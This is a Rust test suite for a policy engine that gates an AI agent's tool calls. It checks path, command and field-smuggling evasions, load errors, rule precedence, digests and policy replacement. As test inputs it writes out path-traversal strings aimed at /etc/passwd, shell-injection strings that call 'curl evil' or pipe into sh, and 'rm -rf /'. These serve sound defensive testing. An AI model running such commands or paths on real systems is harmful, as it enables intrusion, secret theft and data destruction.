//! The rule policy from the outside: evasions (each a named case), load errors, precedence,
//! permutation invariance, explanations, digests and replacement on a running controller.

use std::sync::Arc;
use std::sync::atomic::AtomicUsize;

use crate::common::*;
use proptest::prelude::*;
use serde_json::{Value, json};
use toolgate::rules::{Condition, LoadProblem, PolicyConfig, PolicyLoadError, RuleConfig};
use toolgate::*;

fn tools(runs: &Arc<AtomicUsize>) -> ToolRegistry {
    registry([
        counted(
            "read_file",
            json!({"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]}),
            runs,
        ),
        counted(
            "write_file",
            json!({"type": "object", "properties": {"path": {"type": "string"}, "content": {"type": "string"}}, "required": ["path", "content"]}),
            runs,
        ),
        counted(
            "shell",
            json!({"type": "object", "properties": {"command": {"type": "string"}}, "required": ["command"]}),
            runs,
        ),
        counted(
            "exec",
            json!({"type": "object", "properties": {"argv": {"type": "array", "items": {"type": "string"}}}, "required": ["argv"]}),
            runs,
        ),
        counted(
            "fetch",
            json!({"type": "object", "properties": {"url": {"type": "string"}, "port": {"type": "integer"}, "note": {"type": "string"}}}),
            runs,
        ),
    ])
}

const WORKSPACE_POLICY: &str = r#"{"paths": {"working_directory": "/work"}, "rules": [
  {"id": "read-workspace", "tool": "read_file", "action": "allow", "reason": "reading inside the workspace",
   "when": {"path_within": {"pointer": "/path", "roots": ["/work"]}},
   "match": [{"path": "/work/src/lib.rs"}, {"path": "src/lib.rs"}],
   "not_match": [{"path": "/work-evil/x"}, {"path": "/work/../etc/passwd"}]},
  {"id": "read-secrets", "tool": "read_file", "action": "deny", "reason": "secrets are never read",
   "when": {"path_glob": {"pointer": "/path", "pattern": "*.pem"}}},
  {"id": "read-elsewhere", "tool": "read_file", "action": "ask", "reason": "reading outside the workspace",
   "when": {"not": {"path_within": {"pointer": "/path", "roots": ["/work"]}}},
   "not_match": [{"path": "/work/a.txt"}, {"path": "a.txt"}]},
  {"id": "git-status", "tool": "shell", "action": "allow", "reason": "read-only git",
   "when": {"command_prefix": {"pointer": "/command", "prefix": ["git", "status"]}},
   "match": [{"command": "git status --short"}], "not_match": [{"command": "git status; git push"}]},
  {"id": "git-push", "tool": "shell", "action": "deny", "reason": "pushing is for people",
   "when": {"command_prefix": {"pointer": "/command", "prefix": ["git", "push"]}}},
  {"id": "exec-git-status", "tool": "exec", "action": "allow", "reason": "read-only git",
   "when": {"argv_prefix": {"pointer": "/argv", "prefix": ["git", "status"]}}},
  {"id": "fetch-ports", "tool": "fetch", "action": "allow", "reason": "unprivileged ports on the internal host",
   "when": {"all": [
     {"range": {"pointer": "/port", "min": 1024, "max": 65535}},
     {"one_of": {"pointer": "/url", "values": ["http://internal", "http://internal/"]}}
   ]}}
]}"#;

fn workspace_policy(registry: &ToolRegistry) -> RulePolicy {
    RulePolicy::from_json(WORKSPACE_POLICY, registry).unwrap_or_else(|error| panic!("{error}"))
}

fn decide(policy: &RulePolicy, tool: &str, arguments: Value) -> (PolicyAction, Option<String>) {
    let decision = policy.decide_arguments(tool, &arguments);
    (decision.action, decision.rule_id.map(|id| id.to_string()))
}

fn action(policy: &RulePolicy, tool: &str, arguments: Value) -> PolicyAction {
    decide(policy, tool, arguments).0
}

// ---- evasions: paths ---------------------------------------------------------------------------

fn read(path: &str) -> Value {
    json!({ "path": path })
}

#[test]
fn evasion_dotdot_out_of_the_workspace() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "read_file", read("/work/../etc/passwd")),
        PolicyAction::Ask
    );
    assert_eq!(
        action(&policy, "read_file", read("/work/a/b/../../../etc")),
        PolicyAction::Ask
    );
    assert_eq!(
        action(&policy, "read_file", read("../etc/passwd")),
        PolicyAction::Ask
    );
}

#[test]
fn evasion_sibling_prefix() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "read_file", read("/work-evil/a")),
        PolicyAction::Ask
    );
    assert_eq!(
        action(&policy, "read_file", read("/workspace/a")),
        PolicyAction::Ask
    );
}

#[test]
fn evasion_repeated_separators_and_dots_are_folded() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "read_file", read("//work//./a.txt")),
        PolicyAction::Allow
    );
    assert_eq!(
        action(&policy, "read_file", read("/work/./../work/a")),
        PolicyAction::Allow
    );
    assert_eq!(
        action(&policy, "read_file", read("/./etc//passwd")),
        PolicyAction::Ask
    );
}

#[test]
fn evasion_relative_paths_are_taken_against_the_root() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "read_file", read("src/lib.rs")),
        PolicyAction::Allow
    );
    assert_eq!(
        action(&policy, "read_file", read("./src/../../x")),
        PolicyAction::Ask
    );
}

#[test]
fn evasion_nul_byte_is_never_allowed() {
    let policy = workspace_policy(&tools(&Arc::default()));
    let decision = policy.decide_arguments("read_file", &read("/work/a\0/../../etc/passwd"));
    // Undetermined: never allowed, and the deny rule on the same field applies first.
    assert_eq!(decision.action, PolicyAction::Deny);
    assert_eq!(decision.rule_id.as_deref(), Some("read-secrets"));
}

#[test]
fn evasion_tilde_env_and_url_encoding_are_undetermined() {
    let policy = workspace_policy(&tools(&Arc::default()));
    // A shell, a Windows API or a URL decoder in the handler could turn each of these into
    // another path: never allowed (and the deny rule on the field applies).
    for spelling in [
        "~/x",
        "~root/x",
        "$HOME/x",
        "/work/${HOME}",
        "%2e%2e/%2e%2e/etc",
        "/work/%2e%2e/etc",
        "~/../../etc",
    ] {
        assert_eq!(
            action(&policy, "read_file", read(spelling)),
            PolicyAction::Deny,
            "{spelling}"
        );
    }
    // `~` inside a name is an ordinary character.
    assert_eq!(
        action(&policy, "read_file", read("/work/notes~")),
        PolicyAction::Allow
    );
}

#[test]
fn evasion_deny_wins_over_allow_inside_the_workspace() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        decide(&policy, "read_file", read("/work/keys/server.pem")),
        (PolicyAction::Deny, Some("read-secrets".to_owned()))
    );
}

// ---- evasions: commands ------------------------------------------------------------------------

fn shell(command: &str) -> Value {
    json!({ "command": command })
}

#[test]
fn evasion_shell_syntax_never_matches_an_allow_rule() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "shell", shell("git status")),
        PolicyAction::Allow
    );
    for hostile in [
        "git status; git push",
        "git status && curl evil",
        "git status || curl evil",
        "git status | sh",
        "git status $(curl evil)",
        "git status `curl evil`",
        "git status > ~/.bashrc",
        "git status 2>&1",
        "git status < /etc/passwd",
        "git status\ngit push",
        "git status & disown",
    ] {
        let (action, rule) = decide(&policy, "shell", shell(hostile));
        assert_ne!(
            action,
            PolicyAction::Allow,
            "{hostile:?} allowed by {rule:?}"
        );
    }
}

#[test]
fn evasion_shell_syntax_triggers_deny_rules_fail_closed() {
    // `git push` hidden behind shell syntax: the deny rule cannot prove it absent, so it applies.
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        decide(&policy, "shell", shell("git status;git push")),
        (PolicyAction::Deny, Some("git-push".to_owned()))
    );
}

#[test]
fn evasion_token_prefix_is_whole_tokens() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(&policy, "shell", shell("git statusx")),
        PolicyAction::Deny
    );
    assert_eq!(
        action(&policy, "shell", shell("gitstatus")),
        PolicyAction::Deny
    );
    let exec = |argv: Value| action(&policy, "exec", json!({ "argv": argv }));
    assert_eq!(
        exec(json!(["git", "status", "--short"])),
        PolicyAction::Allow
    );
    assert_eq!(exec(json!(["git", "status--short"])), PolicyAction::Deny);
    assert_eq!(exec(json!(["git status"])), PolicyAction::Deny);
    assert_eq!(exec(json!(["git", "push", "status"])), PolicyAction::Deny);
    assert_eq!(exec(json!(["/usr/bin/git", "status"])), PolicyAction::Deny);
}

#[test]
fn evasion_value_in_another_field() {
    let policy = workspace_policy(&tools(&Arc::default()));
    let smuggled = json!({"url": "http://evil", "note": "http://internal", "port": 8080});
    assert_eq!(action(&policy, "fetch", smuggled), PolicyAction::Deny);
    let honest = json!({"url": "http://internal", "port": 8080});
    assert_eq!(action(&policy, "fetch", honest), PolicyAction::Allow);
    let privileged = json!({"url": "http://internal", "port": 22});
    assert_eq!(action(&policy, "fetch", privileged), PolicyAction::Deny);
}

#[test]
fn evasion_wrong_type_is_never_allowed() {
    let policy = workspace_policy(&tools(&Arc::default()));
    assert_eq!(
        action(
            &policy,
            "fetch",
            json!({"url": "http://internal", "port": "8080"})
        ),
        PolicyAction::Deny
    );
}

// ---- load errors -------------------------------------------------------------------------------

fn load_problems(policy: &str) -> Vec<LoadProblem> {
    match RulePolicy::from_json(policy, &tools(&Arc::default())) {
        Err(PolicyLoadError::Invalid { problems }) => problems,
        other => panic!("expected load problems, got {other:?}"),
    }
}

fn assert_problem(policy: &str, place: &str, message_part: &str) {
    let problems = load_problems(policy);
    assert!(
        problems
            .iter()
            .any(|p| p.place.starts_with(place) && p.message.contains(message_part)),
        "no problem at {place} mentioning {message_part:?} in {problems:#?}"
    );
}

#[test]
fn load_error_unknown_tool() {
    assert_problem(
        r#"{"rules": [{"id": "r", "tool": "raed_file", "action": "allow", "reason": "x"}]}"#,
        "rules[0] (id \"r\")",
        "tool \"raed_file\" is not in the registry",
    );
}

#[test]
fn load_error_pointer_to_a_missing_field() {
    assert_problem(
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "allow", "reason": "x",
            "when": {"path_within": {"pointer": "/pth", "roots": ["/work"]}}}]}"#,
        "rules[0] (id \"r\").when.path_within",
        "\"/pth\" names no field",
    );
}

#[test]
fn load_error_empty_pattern_reason_id_and_prefix() {
    let problems = load_problems(
        r#"{"rules": [
        {"id": "", "tool": "read_file", "action": "deny", "reason": "x", "when": {"glob": {"pointer": "/path", "pattern": "a"}}},
        {"id": "g", "tool": "read_file", "action": "deny", "reason": "x", "when": {"glob": {"pointer": "/path", "pattern": ""}}},
        {"id": "r", "tool": "read_file", "action": "deny", "reason": "  ", "when": {"glob": {"pointer": "/path", "pattern": "b"}}},
        {"id": "p", "tool": "exec", "action": "allow", "reason": "x", "when": {"argv_prefix": {"pointer": "/argv", "prefix": []}}}
    ]}"#,
    );
    let messages: Vec<String> = problems.iter().map(ToString::to_string).collect();
    for expected in [
        "rules[0] (id \"\"): id is empty",
        "rules[1] (id \"g\").when.glob: pattern is empty",
        "rules[2] (id \"r\"): reason is empty",
        "rules[3] (id \"p\").when.argv_prefix: prefix is empty",
    ] {
        assert!(
            messages.iter().any(|m| m == expected),
            "{expected} not in {messages:#?}"
        );
    }
}

#[test]
fn load_error_conflicting_and_repeated_rules() {
    assert_problem(
        r#"{"rules": [
        {"id": "a", "tool": "read_file", "action": "allow", "reason": "x", "when": {"glob": {"pointer": "/path", "pattern": "*.md"}}},
        {"id": "b", "tool": "read_file", "action": "deny", "reason": "y", "when": {"glob": {"pointer": "/path", "pattern": "*.md"}}}
    ]}"#,
        "rules[1] (id \"b\")",
        "conflicts with rules[0]",
    );
    assert_problem(
        r#"{"rules": [
        {"id": "a", "tool": "read_file", "action": "allow", "reason": "x"},
        {"id": "a2", "tool": "read_file", "action": "allow", "reason": "y"}
    ]}"#,
        "rules[1] (id \"a2\")",
        "repeats rules[0]",
    );
    assert_problem(
        r#"{"rules": [
        {"id": "a", "tool": "read_file", "action": "allow", "reason": "x"},
        {"id": "a", "tool": "shell", "action": "allow", "reason": "y"}
    ]}"#,
        "rules[1] (id \"a\")",
        "id repeats rules[0]",
    );
}

#[test]
fn load_error_rule_shadowed_by_an_unconditional_stricter_one() {
    assert_problem(
        r#"{"rules": [
        {"id": "never", "tool": "shell", "action": "deny", "reason": "no shell"},
        {"id": "git", "tool": "shell", "action": "allow", "reason": "git",
         "when": {"command_prefix": {"pointer": "/command", "prefix": ["git"]}}}
    ]}"#,
        "rule \"git\"",
        "can never decide",
    );
}

#[test]
fn load_error_examples_that_do_not_behave() {
    let policy = r#"{"rules": [{"id": "ws", "tool": "read_file", "action": "allow", "reason": "x",
        "when": {"path_within": {"pointer": "/path", "roots": ["/work"]}},
        "match": [{"path": "/etc/passwd"}, {"nope": 1}],
        "not_match": [{"path": "/work/a"}]}]}"#;
    assert_problem(policy, "rules[0] (id \"ws\").match[0]", "does not apply");
    assert_problem(
        policy,
        "rules[0] (id \"ws\").match[1]",
        "not valid arguments",
    );
    assert_problem(policy, "rules[0] (id \"ws\").not_match[0]", "applies");
}

#[test]
fn load_error_relative_root_and_bad_pointer_syntax() {
    let problems = load_problems(
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "allow", "reason": "x",
        "when": {"all": [{"path_within": {"pointer": "/path", "roots": ["work"]}},
                         {"glob": {"pointer": "path", "pattern": "*"}}]}}]}"#,
    );
    assert_eq!(problems.len(), 2, "{problems:#?}");
    assert!(problems[0].message.contains("not a plain absolute path"));
    assert!(problems[1].message.contains("must start with '/'"));
}

#[test]
fn load_error_unknown_keys_and_bad_json() {
    for text in [
        r#"{"rules": [], "default": "allow"}"#,
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "allow", "reason": "x", "priority": 1}]}"#,
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "allow", "reason": "x",
            "when": {"glob": {"pointer": "/path", "pattern": "*", "case_insensitive": true}}}]}"#,
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "permit", "reason": "x"}]}"#,
        r#"{"rules": [{"id": "r", "tool": "read_file", "action": "allow", "reason": "x",
            "when": {"regex": {"pointer": "/path", "pattern": ".*"}}}]}"#,
        r#"{"rules": ["#,
    ] {
        assert!(
            matches!(
                RulePolicy::from_json(text, &tools(&Arc::default())),
                Err(PolicyLoadError::Syntax { .. })
            ),
            "{text}"
        );
    }
}

#[test]
fn load_error_missing_file_names_the_path() {
    let error =
        RulePolicy::from_file("/nonexistent/policy.json", &tools(&Arc::default())).unwrap_err();
    assert!(matches!(error, PolicyLoadError::Read { .. }));
    let cause = std::error::Error::source(&error).and_then(std::error::Error::source);
    assert!(
        cause.is_some_and(|cause| cause.is::<std::io::Error>()),
        "the I/O error is reachable as a source"
    );
    assert!(error.to_string().contains("/nonexistent/policy.json"));
}

#[test]
fn policy_loads_from_a_file() {
    let path = std::env::temp_dir().join(format!("toolgate-policy-{}.json", std::process::id()));
    std::fs::write(&path, WORKSPACE_POLICY).unwrap();
    let loaded = RulePolicy::from_file(&path, &tools(&Arc::default()));
    std::fs::remove_file(&path).unwrap();
    assert_eq!(
        loaded.unwrap().digest(),
        workspace_policy(&tools(&Arc::default())).digest()
    );
}

// ---- precedence, explanation, digest -----------------------------------------------------------

#[test]
fn precedence_is_deny_then_ask_then_allow_then_default() {
    let policy = RulePolicy::new(
        PolicyConfig::new([
            RuleConfig::new("allow-md", "read_file", PolicyAction::Allow, "docs")
                .when(Condition::glob("/path", "*.md")),
            RuleConfig::new("ask-private", "read_file", PolicyAction::Ask, "private")
                .when(Condition::glob("/path", "*private*")),
            RuleConfig::new("deny-key", "read_file", PolicyAction::Deny, "keys")
                .when(Condition::glob("/path", "*key*")),
        ]),
        &tools(&Arc::default()),
    )
    .unwrap();
    let at = |path: &str| decide(&policy, "read_file", read(path));
    assert_eq!(at("a.md"), (PolicyAction::Allow, Some("allow-md".into())));
    assert_eq!(
        at("private.md"),
        (PolicyAction::Ask, Some("ask-private".into()))
    );
    assert_eq!(
        at("private-key.md"),
        (PolicyAction::Deny, Some("deny-key".into()))
    );
    let default = policy.decide_arguments("read_file", &read("a.txt"));
    assert_eq!(
        (default.action, default.rule_id),
        (PolicyAction::Deny, None)
    );
    assert!(default.reason.as_str().contains("default deny"));
    assert_eq!(
        policy.decide_arguments("write_file", &json!({})).action,
        PolicyAction::Deny
    );
}

#[test]
fn explain_names_the_deciding_rule_and_every_rule_of_the_tool() {
    let registry = tools(&Arc::default());
    let policy = workspace_policy(&registry);
    let explanation = policy.explain_arguments("read_file", &read("/work/id.pem"));
    assert_eq!(explanation.decision.action, PolicyAction::Deny);
    assert_eq!(
        explanation.decision.rule_id.as_deref(),
        Some("read-secrets")
    );
    let traces: Vec<(&str, PolicyAction, bool)> = explanation
        .rules
        .iter()
        .map(|trace| (&*trace.rule_id, trace.action, trace.applied))
        .collect();
    assert_eq!(
        traces,
        [
            ("read-secrets", PolicyAction::Deny, true),
            ("read-elsewhere", PolicyAction::Ask, false),
            ("read-workspace", PolicyAction::Allow, true),
        ]
    );
    let nul = policy.explain_arguments("read_file", &read("a\0"));
    assert!(nul.rules.iter().any(|trace| !trace.determined));

    // Through the runtime, on a validated call.
    let runtime = ToolRuntime::new(registry);
    let prepared = runtime
        .prepare(ToolCall::new("c", "read_file", read("/work/a")))
        .unwrap();
    assert_eq!(
        policy.explain(&prepared).decision.rule_id.as_deref(),
        Some("read-workspace")
    );
    assert_eq!(
        policy.decide(&prepared).rule_id.as_deref(),
        Some("read-workspace")
    );
}

#[test]
fn digest_ignores_order_and_formatting_and_changes_with_meaning() {
    let registry = tools(&Arc::default());
    let original = workspace_policy(&registry);
    let mut config = original.config().clone();
    config.rules.reverse();
    let reordered = RulePolicy::new(config.clone(), &registry).unwrap();
    assert_eq!(original.digest(), reordered.digest());
    let reformatted =
        RulePolicy::from_json(&serde_json::to_string_pretty(&config).unwrap(), &registry).unwrap();
    assert_eq!(original.digest(), reformatted.digest());

    config.rules[0].reason.push('!');
    let changed = RulePolicy::new(config, &registry).unwrap();
    assert_ne!(original.digest(), changed.digest());
    assert!(original.digest().starts_with("sha256:"));

    let decision = original.decide_arguments("read_file", &read("/work/a"));
    assert_eq!(decision.policy_digest.as_deref(), Some(original.digest()));
    let default = original.decide_arguments("nope", &json!({}));
    assert_eq!(default.policy_digest.as_deref(), Some(original.digest()));
}

// ---- replacement on a running controller -------------------------------------------------------

#[test]
fn a_policy_that_fails_to_load_leaves_the_old_one_in_force() {
    let runs = Arc::new(AtomicUsize::new(0));
    let controller = ToolController::new(tools(&runs), workspace_policy(&tools(&runs)));
    let bad = r#"{"rules": [{"id": "x", "tool": "read_file", "action": "allow", "reason": "all reads"},
                            {"id": "y", "tool": "nope", "action": "allow", "reason": "r"}]}"#;
    let error = controller
        .try_replace_policy(|registry| RulePolicy::from_json(bad, registry))
        .unwrap_err();
    assert!(error.to_string().contains("\"nope\""), "{error}");
    // The old policy still asks about /etc; the half-valid new one would have allowed it.
    assert!(matches!(
        controller.handle(ToolCall::new("c", "read_file", read("/etc/passwd"))),
        Outcome::PendingApproval(_)
    ));
}

#[test]
fn waiting_approvals_are_decided_again_under_a_new_rule_policy() {
    let runs = Arc::new(AtomicUsize::new(0));
    let controller = ToolController::new(tools(&runs), workspace_policy(&tools(&runs)));
    let Outcome::PendingApproval(request) =
        controller.handle(ToolCall::new("c9", "read_file", read("/etc/hosts")))
    else {
        panic!("outside the workspace: ask");
    };
    let stricter = r#"{"rules": [{"id": "no-etc", "tool": "read_file", "action": "deny", "reason": "never /etc",
        "when": {"path_within": {"pointer": "/path", "roots": ["/etc"]}}}]}"#;
    controller
        .try_replace_policy(|registry| RulePolicy::from_json(stricter, registry))
        .unwrap();
    let result = controller
        .resolve(ApprovalResponse::approve(request.approval_id))
        .unwrap();
    assert_eq!(
        result,
        ToolResult::error("c9", "denied after approval: never /etc")
    );
    assert_eq!(run_count(&runs), 0);
}

// ---- order never changes a decision (property) -------------------------------------------------

/// A pool of rules that load together (no repeats, no shadowing), mixing all three actions.
fn rule_pool() -> Vec<RuleConfig> {
    use PolicyAction::*;
    let glob = |p: &str| Condition::path_glob("/path", p);
    vec![
        RuleConfig::new("a1", "read_file", Allow, "r")
            .when(Condition::path_within("/path", ["/work"])),
        RuleConfig::new("a2", "read_file", Allow, "r").when(glob("*.md")),
        RuleConfig::new("a3", "read_file", Allow, "r").when(glob("/tmp/*")),
        RuleConfig::new("k1", "read_file", Ask, "r")
            .when(Condition::path_within("/path", ["/home"])),
        RuleConfig::new("k2", "read_file", Ask, "r").when(glob("*secret*")),
        RuleConfig::new("k3", "read_file", Ask, "r").when(glob("drafts/*")),
        RuleConfig::new("d1", "read_file", Deny, "r").when(glob("*.pem")),
        RuleConfig::new("d2", "read_file", Deny, "r")
            .when(Condition::path_within("/path", ["/work/.git"])),
        RuleConfig::new("d3", "read_file", Deny, "r").when(glob("*secret*key*")),
        RuleConfig::new("s1", "shell", Allow, "r")
            .when(Condition::command_prefix("/command", ["ls"])),
        RuleConfig::new("s2", "shell", Deny, "r")
            .when(Condition::command_prefix("/command", ["rm"])),
        RuleConfig::new("s3", "shell", Ask, "r")
            .when(Condition::command_prefix("/command", ["ls", "-R"])),
    ]
}

fn argument_pool() -> Vec<(&'static str, Value)> {
    let paths = [
        "/work/a.md",
        "/work/.git/config",
        "/work/id.pem",
        "/home/u/secret.md",
        "/home/u/x",
        "/tmp/secret-key",
        "/tmp/a",
        "a.md",
        "/etc/passwd",
        "/work/a\0",
        "../x.md",
    ];
    let commands = ["ls", "ls -R /", "rm -rf /", "ls; rm -rf /", "cat x"];
    paths
        .iter()
        .map(|path| ("read_file", json!({ "path": path })))
        .chain(
            commands
                .iter()
                .map(|command| ("shell", json!({ "command": command }))),
        )
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 256,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn the_order_rules_are_written_in_never_changes_a_decision(
        chosen in proptest::sample::subsequence(rule_pool(), 1..=12),
        seed in any::<u64>(),
    ) {
        let registry = tools(&Arc::default());
        let written = RulePolicy::new(PolicyConfig::new(chosen.clone()), &registry).unwrap();
        let mut shuffled = chosen;
        // A seeded Fisher–Yates shuffle, so a failure replays from proptest's seed.
        let mut state = seed | 1;
        for i in (1..shuffled.len()).rev() {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            shuffled.swap(i, (state % (i as u64 + 1)) as usize);
        }
        let permuted = RulePolicy::new(PolicyConfig::new(shuffled), &registry).unwrap();
        prop_assert_eq!(written.digest(), permuted.digest());
        for (tool, arguments) in argument_pool() {
            prop_assert_eq!(
                written.explain_arguments(tool, &arguments),
                permuted.explain_arguments(tool, &arguments)
            );
        }
    }
}

#[test]
fn a_tool_covered_only_by_conditional_pattern_denies_is_denied_outright() {
    let tools = registry([counted(
        "srv__read",
        json!({"type": "object", "properties": {"path": {"type": "string"}}}),
        &Default::default(),
    )]);
    let policy = RulePolicy::from_json(
        r#"{"rules": [{"id": "d", "tool": "srv__*", "action": "deny", "reason": "d",
                       "when": {"equals": {"pointer": "/path", "value": "secret"}}}]}"#,
        &tools,
    )
    .unwrap_or_else(|error| panic!("{error}"));
    // Allowed by nothing: every call is denied (the default), so the tool is not listed.
    assert!(policy.denies_every_call("srv__read"));
    // A tool the pattern covers that is registered later is judged by the group's rules.
    assert!(policy.denies_every_call("srv__later"));
    let exact = RulePolicy::from_json(
        r#"{"rules": [{"id": "d", "tool": "srv__read", "action": "deny", "reason": "d",
                       "when": {"equals": {"pointer": "/path", "value": "secret"}}}]}"#,
        &tools,
    )
    .unwrap_or_else(|error| panic!("{error}"));
    assert!(exact.denies_every_call("srv__read"), "named exactly, too");
    let controller = ToolController::new(tools, policy);
    assert!(controller.listed_specs().is_empty());
}

#[test]
fn read_errors_compare_by_kind_and_text_and_show_the_os_error() {
    let missing =
        std::env::temp_dir().join(format!("toolgate-no-such-policy-{}", std::process::id()));
    let read_error =
        |path: &std::path::Path| match RulePolicy::from_file(path, &tools(&Arc::default())) {
            Err(PolicyLoadError::Read { source, .. }) => source,
            other => panic!("expected a read error, got {other:?}"),
        };
    let (first, again) = (read_error(&missing), read_error(&missing));
    assert_eq!(first, again);
    let directory = read_error(&std::env::temp_dir());
    assert_ne!(first, directory, "not found is not is-a-directory");
    let os = std::error::Error::source(&first)
        .expect("the io::Error")
        .to_string();
    assert_eq!(first.to_string(), os);
    assert!(!os.is_empty());
}

#[test]
fn a_pattern_rule_inert_on_every_tool_it_covers_is_a_load_error_naming_the_stricter_rule() {
    let runs = std::sync::Arc::default();
    let registry = ToolRegistry::new([
        counted("srv__a", json!({"type": "object"}), &runs),
        counted("srv__b", json!({"type": "object"}), &runs),
    ])
    .unwrap();
    let load =
        |rules: &str| RulePolicy::from_json(&format!(r#"{{"rules": [{rules}]}}"#), &registry);
    let pattern =
        r#"{"id": "srv", "tool": "srv__*", "action": "allow", "reason": "the server's tools"}"#;
    for (stricter, verb) in [("deny", "denies"), ("ask", "asks for")] {
        let both = format!(
            r#"{pattern},
               {{"id": "a", "tool": "srv__a", "action": "{stricter}", "reason": "r"}},
               {{"id": "b", "tool": "srv__b", "action": "{stricter}", "reason": "r"}}"#
        );
        match load(&both) {
            Err(PolicyLoadError::Invalid { problems }) => {
                let problem = problems
                    .iter()
                    .find(|p| p.place == r#"rule "srv""#)
                    .unwrap_or_else(|| panic!("{problems:?}"));
                assert!(
                    problem.message.starts_with("can never decide: rule")
                        && problem.message.contains(&format!(" {verb} tool \"srv__")),
                    "{}",
                    problem.message
                );
            }
            other => panic!("{stricter}: {other:?}"),
        }
        // Inert on one tool only: it still decides the other, so it loads.
        let one = format!(
            r#"{pattern}, {{"id": "a", "tool": "srv__a", "action": "{stricter}", "reason": "r"}}"#
        );
        assert!(load(&one).is_ok(), "{stricter}");
    }
}
